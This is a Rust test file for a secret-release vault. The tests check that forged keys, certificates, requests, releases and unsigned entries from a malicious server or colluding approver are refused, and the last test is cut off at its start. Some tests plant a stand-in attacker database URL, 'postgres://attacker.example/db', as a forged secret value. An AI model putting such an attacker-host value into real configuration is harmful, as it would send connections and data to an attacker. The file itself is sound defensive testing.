//! The identity chain and the release path, including a malicious server that swaps keys.

use crate::util::*;
use blindvault_core::Error;
use blindvault_core::entry::{SealedEntry, seal_entry};
use blindvault_core::identity::{
    HostCertificate, MAX_CLOCK_SKEW_SECS, MAX_REQUEST_LIFETIME_SECS, SIG_REQUEST_V2, SignedEnrolment,
    SignedRequest, verify_request,
};
use blindvault_core::ids::{CertId, EntryId};
use blindvault_core::keys::{ApproverPublicKey, EphemeralSecretKey, HostSecretKey, OrgSecretKey};
use blindvault_core::policy::Policy;
use blindvault_core::release::{
    SealedResponse, approve, open_response, open_vouched_response, recover_secret,
};
use blindvault_core::revocation::Revocations;

#[test]
fn any_of_release_end_to_end() {
    let w = World::new("e2e");
    let alice = Device::new("alice", 1);
    let bob = Device::new("bob", 2);
    let approvers = [alice.verified(&w.org), bob.verified(&w.org)];
    let entry = seal_entry(
        &w.org,
        w.entry_id,
        1,
        Policy::AnyOf { n: 2 },
        &approvers,
        b"prod database password",
        b"hunter2",
        &mut rng("seal"),
    )
    .unwrap();
    let (eph, req) = w.request("req");
    // The device verifies the chain from its pinned org key…
    let verified = verify_request(&w.org.public_key(), &w.cert, &req, NOW).unwrap();
    assert_eq!(verified.host_name(), "ci-runner-7.example");
    // …shows the decrypted label…
    let opened = entry.open_envelope(bob.keys.approver_secret()).unwrap();
    assert_eq!(entry.decrypt_label(&opened.label_key).unwrap().expose(), b"prod database password");
    // …and re-seals to the consumer's ephemeral key.
    let resp = approve(bob.keys.approver_secret(), &verified, &entry, &mut rng("approve")).unwrap();
    let resp = SealedResponse::from_bytes(&resp.to_bytes()).unwrap();
    let release = open_response(&eph, &req, &resp, &approvers[1]).unwrap();
    assert_eq!(release.approver, bob.keys.approver_public());
    assert_eq!(recover_secret(&[release], &entry, &Revocations::none()).unwrap().expose(), b"hunter2");
    // The admin reads the label with the org key.
    assert_eq!(entry.decrypt_label_as_org(&w.org).unwrap().expose(), b"prod database password");
}

#[test]
fn two_of_three_needs_two_people() {
    let w = World::new("2of3");
    let devs = [Device::new("a", 1), Device::new("b", 2), Device::new("c", 3)];
    // "a" has a second device: same person, same share.
    let a2 = Device::new("a", 4);
    let mut approvers: Vec<_> = devs.iter().map(|d| d.verified(&w.org)).collect();
    approvers.push(a2.verified(&w.org));
    let entry = seal_entry(
        &w.org,
        w.entry_id,
        3,
        Policy::MOfN { m: 2, n: 3 },
        &approvers,
        b"label",
        b"s3cret-value",
        &mut rng("seal"),
    )
    .unwrap();
    let (eph, req) = w.request("req");
    let v = verify_request(&w.org.public_key(), &w.cert, &req, NOW).unwrap();
    let open = |d: &Device, s: &str| {
        let r = approve(d.keys.approver_secret(), &v, &entry, &mut rng(s)).unwrap();
        open_response(&eph, &req, &r, &d.verified(&w.org)).unwrap()
    };
    // One approval releases nothing.
    let r_a = open(&devs[0], "1");
    assert!(matches!(
        recover_secret(&[r_a], &entry, &Revocations::none()),
        Err(Error::NotEnoughShares { needed: 2, got: 1 })
    ));
    // Both devices of one person still count once.
    let both_a = [open(&devs[0], "1"), open(&a2, "2")];
    assert!(matches!(
        recover_secret(&both_a, &entry, &Revocations::none()),
        Err(Error::NotEnoughShares { needed: 2, got: 1 })
    ));
    // Two people do.
    let two = [open(&devs[0], "1"), open(&devs[2], "3")];
    assert_eq!(recover_secret(&two, &entry, &Revocations::none()).unwrap().expose(), b"s3cret-value");
    // Any two.
    let two = [open(&devs[1], "1"), open(&devs[2], "3")];
    assert_eq!(recover_secret(&two, &entry, &Revocations::none()).unwrap().expose(), b"s3cret-value");
}

#[test]
fn server_substituted_ephemeral_key_is_caught_on_the_device() {
    let w = World::new("swap-eph");
    let (_eph, req) = w.request("req");
    // The server replaces the ephemeral key with its own in the stored request.
    let mut forged = req.clone();
    forged.request.ephemeral_key = EphemeralSecretKey::generate(&mut rng("server")).public_key();
    assert_eq!(
        verify_request(&w.org.public_key(), &w.cert, &forged, NOW).err(),
        Some(Error::BadSignature { link: blindvault_core::Link::Request })
    );
}

#[test]
fn server_substituted_host_certificate_is_caught() {
    let w = World::new("swap-cert");
    let (_eph, req) = w.request("req");
    // A certificate "signed" by a key the server holds, for the server's own host key.
    let rogue_org = OrgSecretKey::generate(&mut rng("rogue"));
    let rogue_host = HostSecretKey::generate(&mut rng("rogue-host"));
    let mut c = w.cert.cert.clone();
    c.host_key = rogue_host.public_key();
    let rogue_cert = c.sign(&rogue_org).unwrap();
    assert_eq!(
        verify_request(&w.org.public_key(), &rogue_cert, &req, NOW).err(),
        Some(Error::BadSignature { link: blindvault_core::Link::HostCertificate })
    );
    // Editing the certificate (host name, allowed entries) breaks the org signature.
    let mut edited = w.cert.clone();
    edited.cert.host_name = "innocent-looking-host".into();
    assert_eq!(
        verify_request(&w.org.public_key(), &edited, &req, NOW).err(),
        Some(Error::BadSignature { link: blindvault_core::Link::HostCertificate })
    );
    // A request signed by another host key under the real certificate.
    let mut other = req.request.clone();
    other.nonce = [9; 16];
    let signed_by_other = other.sign(&rogue_host).unwrap();
    assert_eq!(
        verify_request(&w.org.public_key(), &w.cert, &signed_by_other, NOW).err(),
        Some(Error::BadSignature { link: blindvault_core::Link::Request })
    );
    // A genuine certificate of another host, presented with this host's request.
    let other_cert = HostCertificate {
        cert_id: CertId::generate(&mut rng("c2")),
        host_name: "other".into(),
        host_key: w.host.public_key(),
        allowed_entries: vec![w.entry_id],
        not_before: NOW - 10,
        not_after: NOW + 1000,
        issuer: Some("admin-1".into()),
        self_approval: false,
    }
    .sign(&w.org)
    .unwrap();
    assert_eq!(
        verify_request(&w.org.public_key(), &other_cert, &req, NOW).err(),
        Some(Error::Mismatch { what: blindvault_core::Mismatch::RequestCertificate })
    );
}

#[test]
fn server_substituted_org_key_is_caught() {
    // The device pinned the real org key; the server offers a chain rooted in its own.
    let w = World::new("swap-org");
    let rogue = World::new("rogue-world");
    let (_eph, req) = rogue.request("req");
    assert_eq!(
        verify_request(&w.org.public_key(), &rogue.cert, &req, NOW).err(),
        Some(Error::BadSignature { link: blindvault_core::Link::HostCertificate })
    );
    // And approver enrolments signed by another org do not verify against the pinned key.
    let d = Device::new("mallory", 9);
    assert_eq!(
        d.enrolment(&rogue.org).verify(&w.org.public_key(), NOW).err(),
        Some(Error::BadSignature { link: blindvault_core::Link::Enrolment })
    );
}

#[test]
fn substituted_approver_key_is_caught_by_the_writer() {
    let w = World::new("swap-approver");
    let alice = Device::new("alice", 1);
    let enrolment = alice.enrolment(&w.org);
    // The server swaps the approver key inside a genuine enrolment.
    let mut forged = enrolment.clone();
    forged.enrolment.approver_key = ApproverPublicKey::from_array([0x55; 32]);
    assert_eq!(
        forged.verify(&w.org.public_key(), NOW).err(),
        Some(Error::BadSignature { link: blindvault_core::Link::Enrolment })
    );
    // Through the wire format too.
    let mut bytes = enrolment.to_bytes();
    let pos = bytes.len() - 64 - 8 - 8 - 32; // first byte of the approver key (before issued_at, not_after)
    bytes[pos] ^= 1;
    let parsed = SignedEnrolment::from_bytes(&bytes).unwrap();
    assert!(parsed.verify(&w.org.public_key(), NOW).is_err());
    // An approver verified under another org cannot be sealed to.
    let rogue = OrgSecretKey::generate(&mut rng("rogue"));
    let other_org_approver = alice.verified(&rogue);
    assert_eq!(
        seal_entry(
            &w.org,
            w.entry_id,
            1,
            Policy::AnyOf { n: 1 },
            &[other_org_approver],
            b"l",
            b"v",
            &mut rng("s"),
        )
        .err(),
        Some(Error::Mismatch { what: blindvault_core::Mismatch::ApproverOfAnotherOrg })
    );
}

#[test]
fn expired_and_not_yet_valid() {
    let w = World::new("expiry");
    let (_e, req) = w.request("req");
    let org = w.org.public_key();
    // Request expired.
    assert_eq!(
        verify_request(&org, &w.cert, &req, NOW + 300).err(),
        Some(Error::Expired { link: blindvault_core::Link::Request })
    );
    assert!(verify_request(&org, &w.cert, &req, NOW + 299).is_ok());
    // Request from the future (beyond clock skew).
    let (_e, future) = w.request_for("f", w.entry_id, NOW + 1000, NOW + 1200);
    assert_eq!(
        verify_request(&org, &w.cert, &future, NOW).err(),
        Some(Error::NotYetValid { link: blindvault_core::Link::Request })
    );
    // Certificate expired.
    assert_eq!(
        verify_request(&org, &w.cert, &req, NOW + 86_400).err(),
        Some(Error::Expired { link: blindvault_core::Link::HostCertificate })
    );
    assert_eq!(
        verify_request(&org, &w.cert, &req, NOW - 3601).err(),
        Some(Error::NotYetValid { link: blindvault_core::Link::HostCertificate })
    );
}

/// D6, check 6 of `verify_request`: a request may not outlive the host certificate that vouches
/// for it (the certificate's end would otherwise not bound what a host key may still ask for).
/// Catches the `expires_at > not_after` check removed (the long request verifies) or turned into
/// `>=` (the request ending with the certificate is refused).
#[test]
fn a_request_outliving_its_host_certificate_is_refused() {
    let w = World::new("outlive");
    let org = w.org.public_key();
    // The same host and serial, certified until NOW + 200 (exclusive).
    let mut c = w.cert.cert.clone();
    c.not_after = NOW + 200;
    let short = c.sign(&w.org).unwrap();
    assert!(short.verify(&org, NOW).is_ok());
    let (_e, long) = w.request_for("long", w.entry_id, NOW, NOW + 201);
    assert_eq!(
        verify_request(&org, &short, &long, NOW).err(),
        Some(Error::Mismatch { what: blindvault_core::Mismatch::RequestOutlivesCertificate })
    );
    // The refusal is the certificate's end alone: under the day-long certificate it verifies.
    assert!(verify_request(&org, &w.cert, &long, NOW).is_ok());
    // Ending when the certificate ends (both exclusive) is inside it.
    let (_e, inside) = w.request_for("inside", w.entry_id, NOW, NOW + 200);
    assert!(verify_request(&org, &short, &inside, NOW).is_ok());
    // A certificate that already expired refuses even a request inside its old window.
    assert_eq!(
        verify_request(&org, &short, &inside, NOW + 200).err(),
        Some(Error::Expired { link: blindvault_core::Link::HostCertificate })
    );
}

/// D6: `issued_at` may be ahead of the device's clock by [`MAX_CLOCK_SKEW_SECS`] and no more.
/// Catches a wider allowance (or none checked: the request issued one second past the skew
/// verifies) and an off-by-one at the edge.
#[test]
fn a_request_may_lead_the_clock_by_the_skew_and_no_more() {
    let w = World::new("skew");
    let org = w.org.public_key();
    let at = NOW + MAX_CLOCK_SKEW_SECS;
    let (_e, edge) = w.request_for("edge", w.entry_id, at, at + 60);
    assert!(verify_request(&org, &w.cert, &edge, NOW).is_ok());
    let (_e, past) = w.request_for("past", w.entry_id, at + 1, at + 60);
    assert_eq!(
        verify_request(&org, &w.cert, &past, NOW).err(),
        Some(Error::NotYetValid { link: blindvault_core::Link::Request })
    );
    assert!(verify_request(&org, &w.cert, &past, NOW + 1).is_ok());
}

/// A request as the host's key would sign it by hand, not through `Request::sign`: the
/// canonical body, `SIG_REQUEST_V2 ‖ body` signed with Ed25519, wrapped as a signed object.
fn hand_signed(host: &HostSecretKey, body: &[u8]) -> Vec<u8> {
    use ed25519_dalek::Signer as _;
    let mut m = SIG_REQUEST_V2.to_vec();
    m.extend_from_slice(body);
    let sig = ed25519_dalek::SigningKey::from_bytes(host.expose()).sign(&m).to_bytes();
    let mut out = vec![1u8];
    out.extend_from_slice(&u32::try_from(body.len()).unwrap().to_be_bytes());
    out.extend_from_slice(body);
    out.extend_from_slice(&sig);
    out
}

/// D6, the request lifetime (≤ 1 h, and after `issued_at`). `verify_request` does not check it
/// itself: a `SignedRequest` only comes from `Request::sign` or from decoding, and both check it
/// (tested at signing in `malformed_certificates_and_requests_are_refused_at_signing`). This is the
/// other way in — a host (or anyone with its key) signing an over-long request by hand and sending
/// the bytes: decoding, as the server and the device do, refuses them, through JSON too. Catches
/// the lifetime check dropped from decoding (the hand-signed request would decode and verify,
/// valid for a day under a day-long certificate).
#[test]
fn an_over_long_request_signed_by_hand_does_not_decode() {
    let w = World::new("lifetime");
    let org = w.org.public_key();
    let (_e, req) = w.request_for("max", w.entry_id, NOW, NOW + MAX_REQUEST_LIFETIME_SECS);
    let bytes = req.to_bytes();
    let body = &bytes[5..bytes.len() - 64];
    // Ed25519 is deterministic: signing by hand reproduces the encoding exactly, so what follows
    // differs from a valid request in its lifetime alone.
    assert_eq!(hand_signed(&w.host, body), bytes);
    assert!(verify_request(&org, &w.cert, &SignedRequest::from_bytes(&bytes).unwrap(), NOW).is_ok());
    // expires_at follows the version byte, the three ids, the ephemeral key and issued_at.
    let exp = 1 + 16 + 16 + 16 + 32 + 8;
    assert_eq!(body[exp..exp + 8], (NOW + MAX_REQUEST_LIFETIME_SECS).to_be_bytes());
    for expires_at in [NOW + MAX_REQUEST_LIFETIME_SECS + 1, NOW + 86_000, NOW, NOW - 1] {
        let mut b = body.to_vec();
        b[exp..exp + 8].copy_from_slice(&expires_at.to_be_bytes());
        let forged = hand_signed(&w.host, &b);
        assert_eq!(
            SignedRequest::from_bytes(&forged).err(),
            Some(Error::Malformed { what: "request lifetime" }),
            "expires_at = NOW + {}",
            i128::from(expires_at) - i128::from(NOW)
        );
        let json = serde_json::Value::String(blindvault_core::encoding::b64::encode(&forged));
        assert!(serde_json::from_value::<SignedRequest>(json).is_err());
    }
}

#[test]
fn entry_not_in_certificate_is_refused() {
    let w = World::new("allowed");
    let other = EntryId::generate(&mut rng("other-entry"));
    let (_e, req) = w.request_for("r", other, NOW, NOW + 60);
    assert_eq!(verify_request(&w.org.public_key(), &w.cert, &req, NOW).err(), Some(Error::EntryNotAllowed));
}

#[test]
fn response_is_bound_to_its_request() {
    let w = World::new("bind-req");
    let a = Device::new("a", 1);
    let entry = seal_entry(
        &w.org,
        w.entry_id,
        1,
        Policy::AnyOf { n: 1 },
        &[a.verified(&w.org)],
        b"l",
        b"v",
        &mut rng("s"),
    )
    .unwrap();
    let (eph1, req1) = w.request("r1");
    let (eph2, req2) = w.request("r2");
    let v1 = verify_request(&w.org.public_key(), &w.cert, &req1, NOW).unwrap();
    let resp1 = approve(a.keys.approver_secret(), &v1, &entry, &mut rng("x")).unwrap();
    let va = a.verified(&w.org);
    // Delivered to the wrong request: refused by id.
    assert!(matches!(open_response(&eph2, &req2, &resp1, &va), Err(Error::Mismatch { .. })));
    // Relabelled with the other request's id (server rewrites the header): the HPKE `info`
    // binds the request id, so it does not open, even with the key it was sealed to.
    let mut bytes = resp1.to_bytes();
    bytes[1..17].copy_from_slice(&req2.request.request_id.to_array());
    let relabelled = SealedResponse::from_bytes(&bytes).unwrap();
    assert_eq!(open_response(&eph1, &req2, &relabelled, &va).err(), Some(Error::Decrypt));
    // Reattributed to another device: refused unless that device is the one vouched for, and
    // then the auth-mode sender and the associated data both disagree.
    let mut bytes = resp1.to_bytes();
    bytes[17] ^= 1;
    let reattributed = SealedResponse::from_bytes(&bytes).unwrap();
    assert!(matches!(open_response(&eph1, &req1, &reattributed, &va), Err(Error::Mismatch { .. })));
    // Tampered ciphertext.
    let mut bytes = resp1.to_bytes();
    let last = bytes.len() - 1;
    bytes[last] ^= 1;
    let tampered = SealedResponse::from_bytes(&bytes).unwrap();
    assert_eq!(open_response(&eph1, &req1, &tampered, &va).err(), Some(Error::Decrypt));
    // Only the ephemeral key opens it.
    assert_eq!(open_response(&eph2, &req1, &resp1, &va).err(), Some(Error::Decrypt));
    // And the untouched response opens.
    assert!(open_response(&eph1, &req1, &resp1, &va).is_ok());
}

#[test]
fn approving_a_different_entry_than_requested_is_refused() {
    let w = World::new("wrong-entry");
    let a = Device::new("a", 1);
    let other = EntryId::generate(&mut rng("other"));
    let entry = seal_entry(
        &w.org,
        other,
        1,
        Policy::AnyOf { n: 1 },
        &[a.verified(&w.org)],
        b"l",
        b"v",
        &mut rng("s"),
    )
    .unwrap();
    let (_eph, req) = w.request("r");
    let v = verify_request(&w.org.public_key(), &w.cert, &req, NOW).unwrap();
    assert!(matches!(
        approve(a.keys.approver_secret(), &v, &entry, &mut rng("x")),
        Err(Error::Mismatch { .. })
    ));
}

#[test]
fn malformed_certificates_and_requests_are_refused_at_signing() {
    let w = World::new("malformed");
    let mut c = w.cert.cert.clone();
    c.allowed_entries.clear();
    assert!(c.clone().sign(&w.org).is_err());
    let mut c = w.cert.cert.clone();
    c.not_after = c.not_before;
    assert!(c.sign(&w.org).is_err());
    let mut c = w.cert.cert.clone();
    c.host_name = "bad\nname".into();
    assert!(c.sign(&w.org).is_err());
    let (_e, req) = w.request("r");
    let mut q = req.request.clone();
    q.expires_at = q.issued_at + 7200;
    assert!(q.sign(&w.host).is_err());
}

/// The server knows every public value of a request, the ephemeral key included, and every
/// approver's public key. A release it seals to the ephemeral key itself — in HPKE base mode (what
/// protocol v1 accepted), or in auth mode with a key of its own — under the name of a genuine
/// approver is refused; only the approver's own key makes a response that opens.
#[test]
fn the_server_cannot_forge_a_release() {
    use blindvault_core::hpke::{self, HpkeCiphertext};
    use blindvault_core::release::INFO_RESPONSE_V2;
    let w = World::new("forge");
    let a = Device::new("a", 1);
    let va = a.verified(&w.org);
    let (eph, req) = w.request("r");
    let rid = req.request.request_id.to_array();
    let eph_pk = req.request.ephemeral_key.to_array();
    let approver = va.public_key().to_array();
    // Exactly what an honest any-of approval of this request carries, with a DEK of the server's.
    let payload = release_payload(&rid, &w.entry_id.to_array(), &approver, &[0x5a; 32]);
    let mut info = INFO_RESPONSE_V2.to_vec();
    info.push(0);
    info.extend_from_slice(&rid);
    let response = |c: HpkeCiphertext| {
        let mut b = vec![1u8];
        b.extend_from_slice(&rid);
        b.extend_from_slice(&approver);
        b.extend_from_slice(&c.enc);
        b.extend_from_slice(&(c.ct.len() as u32).to_be_bytes());
        b.extend_from_slice(&c.ct);
        SealedResponse::from_bytes(&b).unwrap()
    };
    let base = hpke::seal(&eph_pk, &info, &approver, &payload, &mut rng("base")).unwrap();
    assert_eq!(open_response(&eph, &req, &response(base), &va).err(), Some(Error::Decrypt));
    let servers_key = [0x66u8; 32];
    let auth =
        hpke::seal_auth(&eph_pk, (&servers_key, &approver), &info, &approver, &payload, &mut rng("auth"))
            .unwrap();
    assert_eq!(open_response(&eph, &req, &response(auth), &va).err(), Some(Error::Decrypt));
    // A device of the server's own, sealing in its own name: not the device the consumer
    // checked (and its enrolment would not verify under the org key).
    let mallory = Device::new("mallory", 9);
    let rogue_org = OrgSecretKey::generate(&mut rng("rogue-org"));
    let own = hpke::seal_auth(
        &eph_pk,
        (mallory.keys.approver_secret().expose(), &mallory.keys.approver_public().to_array()),
        &info,
        &mallory.keys.approver_public().to_array(),
        &payload,
        &mut rng("own"),
    )
    .unwrap();
    let mut own_bytes = response(own).to_bytes();
    own_bytes[17..49].copy_from_slice(&mallory.keys.approver_public().to_array());
    let own = SealedResponse::from_bytes(&own_bytes).unwrap();
    assert!(matches!(open_response(&eph, &req, &own, &va), Err(Error::Mismatch { .. })));
    assert!(mallory.enrolment(&rogue_org).verify(&w.org.public_key(), NOW).is_err());
    // As `blindvault run` checks it, with the enrolments the server delivers: the server's
    // device is vouched for by no enrolment the org key signed.
    let delivered = [a.enrolment(&w.org), mallory.enrolment(&rogue_org)];
    assert_eq!(
        open_vouched_response(&eph, &req, &own, &delivered, &w.org.public_key()).err(),
        Some(Error::NotVouched)
    );
    // The control: the same bytes sealed with the approver's own key open, so the forgeries above
    // failed on the sender alone.
    let genuine = hpke::seal_auth(
        &eph_pk,
        (a.keys.approver_secret().expose(), &approver),
        &info,
        &approver,
        &payload,
        &mut rng("g"),
    )
    .unwrap();
    let genuine = response(genuine);
    let rel = open_vouched_response(&eph, &req, &genuine, &delivered, &w.org.public_key()).unwrap();
    // …and even then carry only a key, which opens nothing but the org's own ciphertext.
    let entry = w.any_of(&[&a], 1, b"the org's value", "e");
    assert_eq!(recover_secret(&[rel], &entry, &Revocations::none()).err(), Some(Error::Decrypt));
}

/// The payload of an any-of release (encoding version 2) carrying `dek`, as a forger writes it.
fn release_payload(rid: &[u8; 16], entry: &[u8; 16], approver: &[u8; 32], dek: &[u8; 32]) -> Vec<u8> {
    let mut payload = vec![2u8];
    payload.extend_from_slice(rid);
    payload.extend_from_slice(entry);
    payload.extend_from_slice(&1u32.to_be_bytes());
    payload.extend_from_slice(&Policy::AnyOf { n: 1 }.to_bytes());
    payload.extend_from_slice(approver);
    payload.push(1);
    payload.extend_from_slice(dek);
    payload
}

/// Seals `payload` as a response from `dev` (its own key: a genuine sender) to `req`.
fn response_from(dev: &Device, req: &SignedRequest, payload: &[u8], seed: &str) -> SealedResponse {
    use blindvault_core::hpke;
    use blindvault_core::release::INFO_RESPONSE_V2;
    let rid = req.request.request_id.to_array();
    let pk = dev.keys.approver_public().to_array();
    let mut info = INFO_RESPONSE_V2.to_vec();
    info.push(0);
    info.extend_from_slice(&rid);
    let c = hpke::seal_auth(
        &req.request.ephemeral_key.to_array(),
        (dev.keys.approver_secret().expose(), &pk),
        &info,
        &pk,
        payload,
        &mut rng(seed),
    )
    .unwrap();
    let mut b = vec![1u8];
    b.extend_from_slice(&rid);
    b.extend_from_slice(&pk);
    b.extend_from_slice(&c.enc);
    b.extend_from_slice(&(c.ct.len() as u32).to_be_bytes());
    b.extend_from_slice(&c.ct);
    SealedResponse::from_bytes(&b).unwrap()
}

/// Protocol v1's any-of payload: the value itself (`0x01 ‖ … ‖ 0x01 ‖ u32 len ‖ value`).
fn v1_value_payload(rid: &[u8; 16], entry: &[u8; 16], approver: &[u8; 32], value: &[u8]) -> Vec<u8> {
    let mut payload = vec![1u8];
    payload.extend_from_slice(rid);
    payload.extend_from_slice(entry);
    payload.extend_from_slice(&1u32.to_be_bytes());
    payload.extend_from_slice(&Policy::AnyOf { n: 1 }.to_bytes());
    payload.extend_from_slice(approver);
    payload.push(1);
    payload.extend_from_slice(&(value.len() as u32).to_be_bytes());
    payload.extend_from_slice(value);
    payload
}

/// One approver of a 2-of-3 entry (a genuine, org-vouched device holding a share) answers with
/// an any-of release carrying a value — or a key — of their choosing, hoping the consumer takes
/// it when the honest second approval arrives. Nothing they send chooses what the command gets:
/// the v1 value form is refused, an any-of claim does not match the org-signed entry's policy,
/// and the honest approval alone is not enough.
#[test]
fn one_approver_cannot_choose_the_value_of_an_m_of_n_entry() {
    let w = World::new("collude-mofn");
    let devs = [Device::new("a", 1), Device::new("b", 2), Device::new("c", 3)];
    let approvers: Vec<_> = devs.iter().map(|d| d.verified(&w.org)).collect();
    let entry = seal_entry(
        &w.org,
        w.entry_id,
        1,
        Policy::MOfN { m: 2, n: 3 },
        &approvers,
        b"l",
        b"the org's value",
        &mut rng("seal"),
    )
    .unwrap();
    let (eph, req) = w.request("req");
    let rid = req.request.request_id.to_array();
    let eid = w.entry_id.to_array();
    let mallory = &devs[0];
    let mpk = mallory.keys.approver_public().to_array();
    let honest = {
        let v = verify_request(&w.org.public_key(), &w.cert, &req, NOW).unwrap();
        let r = approve(devs[1].keys.approver_secret(), &v, &entry, &mut rng("b")).unwrap();
        open_response(&eph, &req, &r, &approvers[1]).unwrap()
    };
    // The value itself (protocol v1's any-of form): no longer a release at all.
    let v1 = v1_value_payload(&rid, &eid, &mpk, b"postgres://attacker.example/db");
    let r = response_from(mallory, &req, &v1, "v1");
    assert_eq!(open_response(&eph, &req, &r, &approvers[0]).err(), Some(Error::Decrypt));
    // A key of their choosing under an any-of policy: opens, and is refused against the entry.
    let forged = release_payload(&rid, &eid, &mpk, &[0x5a; 32]);
    let r = response_from(mallory, &req, &forged, "dek");
    let rel = open_response(&eph, &req, &r, &approvers[0]).unwrap();
    assert_eq!(recover_secret(&[rel], &entry, &Revocations::none()).err(), Some(Error::ShareMismatch));
    let rel = open_response(&eph, &req, &r, &approvers[0]).unwrap();
    assert_eq!(
        recover_secret(&[honest, rel], &entry, &Revocations::none()).err(),
        Some(Error::ShareMismatch)
    );
}

/// With a colluding server (which delivers any response it likes), an org-vouched approver of
/// an any-of entry who holds no envelope of it — never sealed to, or removed before this
/// version — cannot release it, and one who does hold an envelope can only release the DEK that
/// opens the org's ciphertext, never a value of their own.
#[test]
fn an_any_of_release_opens_only_the_org_signed_value() {
    let w = World::new("collude-anyof");
    let (a, outsider) = (Device::new("a", 1), Device::new("outsider", 2));
    let entry = w.any_of(&[&a], 1, b"the org's value", "seal");
    let (eph, req) = w.request("req");
    let rid = req.request.request_id.to_array();
    let eid = w.entry_id.to_array();
    // The outsider is vouched for by the org (a genuine enrolment), but was not sealed to.
    let opk = outsider.keys.approver_public().to_array();
    let r = response_from(&outsider, &req, &release_payload(&rid, &eid, &opk, &[7; 32]), "o");
    let delivered = [outsider.enrolment(&w.org)];
    let rel = open_vouched_response(&eph, &req, &r, &delivered, &w.org.public_key()).unwrap();
    assert!(matches!(recover_secret(&[rel], &entry, &Revocations::none()), Err(Error::Mismatch { .. })));
    // The v1 value form from the outsider: not a release.
    let r = response_from(&outsider, &req, &v1_value_payload(&rid, &eid, &opk, b"evil"), "o1");
    assert_eq!(
        open_vouched_response(&eph, &req, &r, &delivered, &w.org.public_key()).err(),
        Some(Error::Decrypt)
    );
    // The sealed-to approver with a key of their own: the org's ciphertext does not open.
    let apk = a.keys.approver_public().to_array();
    let r = response_from(&a, &req, &release_payload(&rid, &eid, &apk, &[9; 32]), "a");
    let rel = open_response(&eph, &req, &r, &a.verified(&w.org)).unwrap();
    assert_eq!(recover_secret(&[rel], &entry, &Revocations::none()).err(), Some(Error::Decrypt));
    // An entry the org did not write is refused before any key is tried.
    let other_org = OrgSecretKey::generate(&mut rng("other"));
    let foreign = seal_entry(
        &other_org,
        w.entry_id,
        1,
        Policy::AnyOf { n: 1 },
        &[a.verified(&other_org)],
        b"l",
        b"x",
        &mut rng("f"),
    )
    .unwrap();
    let v = verify_request(&w.org.public_key(), &w.cert, &req, NOW).unwrap();
    let honest = approve(a.keys.approver_secret(), &v, &entry, &mut rng("h")).unwrap();
    let rel = open_response(&eph, &req, &honest, &a.verified(&w.org)).unwrap();
    assert_eq!(
        recover_secret(&[rel], &foreign, &Revocations::none()).err(),
        Some(Error::BadSignature { link: blindvault_core::Link::Entry })
    );
    // The control: the honest release opens the org's value.
    let rel = open_response(&eph, &req, &honest, &a.verified(&w.org)).unwrap();
    assert_eq!(recover_secret(&[rel], &entry, &Revocations::none()).unwrap().expose(), b"the org's value");
}

/// Anyone can seal an envelope to an enrolled approver key, so the server can store an entry of
/// its own making (its label, its value) under a requested entry id, sealed to a genuine
/// approver. The approver device refuses to approve it — the org key did not sign it — and so
/// does a consumer handed such an entry for m-of-n; an entry signed by the org opens as before.
#[test]
fn an_entry_the_org_did_not_sign_is_refused() {
    let w = World::new("unsigned");
    let a = Device::new("a", 1);
    let va = a.verified(&w.org);
    let (_eph, req) = w.request("r");
    let v = verify_request(&w.org.public_key(), &w.cert, &req, NOW).unwrap();
    // The server's forgery: sealed to the real approver, signed with a key of the server's.
    let servers_org = OrgSecretKey::generate(&mut rng("server"));
    let mut forged = seal_entry(
        &servers_org,
        w.entry_id,
        1,
        Policy::AnyOf { n: 1 },
        &[a.enrolment(&servers_org).verify(&servers_org.public_key(), NOW).unwrap()],
        b"prod database password",
        b"postgres://attacker.example/db",
        &mut rng("forged"),
    )
    .unwrap();
    // The device can open its envelope of it (that is the point of base mode)…
    assert!(forged.open_envelope(a.keys.approver_secret()).is_ok());
    // …but the org key did not sign it: no approval.
    assert_eq!(
        forged.verify_writer(&w.org.public_key()).err(),
        Some(Error::BadSignature { link: blindvault_core::Link::Entry })
    );
    assert_eq!(
        approve(a.keys.approver_secret(), &v, &forged, &mut rng("x")).err(),
        Some(Error::BadSignature { link: blindvault_core::Link::Entry })
    );
    // A genuine entry with one byte changed (its policy, its label…) no longer verifies either.
    let genuine =
        seal_entry(&w.org, w.entry_id, 1, Policy::AnyOf { n: 1 }, &[va], b"l", b"v", &mut rng("g")).unwrap();
    assert!(genuine.verify_writer(&w.org.public_key()).is_ok());
    let mut bytes = genuine.to_bytes();
    let n = bytes.len();
    bytes[n - 70] ^= 1;
    forged = SealedEntry::from_bytes(&bytes).unwrap();
    assert!(forged.verify_writer(&w.org.public_key()).is_err());
    assert!(approve(a.keys.approver_secret(), &v, &forged, &mut rng("y")).is_err());
    // An entry written before entries were signed (format version 1) decodes, is reported as
    // unsigned, and is refused the same way.
    let mut v1 = genuine.to_bytes();
    v1.truncate(v1.len() - 64);
    v1[0] = 1;
    let old = SealedEntry::from_bytes(&v1).unwrap();
    assert!(!old.is_signed());
    assert_eq!(
        approve(a.keys.approver_secret(), &v, &old, &mut rng("z")).err(),
        Some(Error::BadSignature { link: blindvault_core::Link::Entry })
    );
    assert!(approve(a.keys.approver_secret(), &v, &genuine, &mut rng("ok")).is_ok());
    // The consumer's side of m-of-n: genuine shares, but the entry the server hands over to
    // decrypt is not one the org signed (here: the unsigned form of the genuine entry).
    let b = Device::new("b", 2);
    let two = seal_entry(
        &w.org,
        w.entry_id,
        1,
        Policy::MOfN { m: 2, n: 2 },
        &[a.verified(&w.org), b.verified(&w.org)],
        b"l",
        b"v",
        &mut rng("2"),
    )
    .unwrap();
    let (eph, req) = w.request("m-of-n");
    let v = verify_request(&w.org.public_key(), &w.cert, &req, NOW).unwrap();
    let rels = |d: &[&Device]| -> Vec<_> {
        d.iter()
            .map(|d| {
                let r = approve(d.keys.approver_secret(), &v, &two, &mut rng("r")).unwrap();
                open_response(&eph, &req, &r, &d.verified(&w.org)).unwrap()
            })
            .collect()
    };
    let mut unsigned = two.to_bytes();
    unsigned.truncate(unsigned.len() - 64);
    unsigned[0] = 1;
    let unsigned = SealedEntry::from_bytes(&unsigned).unwrap();
    assert_eq!(
        recover_secret(&rels(&[&a, &b]), &unsigned, &Revocations::none()).err(),
        Some(Error::BadSignature { link: blindvault_core::Link::Entry })
    );
    assert_eq!(recover_secret(&rels(&[&a, &b]), &two, &Revocations::none()).unwrap().expose(), b"v");
}

/// The approver sees what will run: the purpose is signed by the host key. A server that edits
/// it (another command, another variable, a longer lease) breaks the request's signature, and
/// the device shows nothing as verified.
#[test]
fn a_purpose_the_server_altered_fails_on_the_device() {
    use blindvault_core::identity::Purpose;
    let w = World::new("purpose");
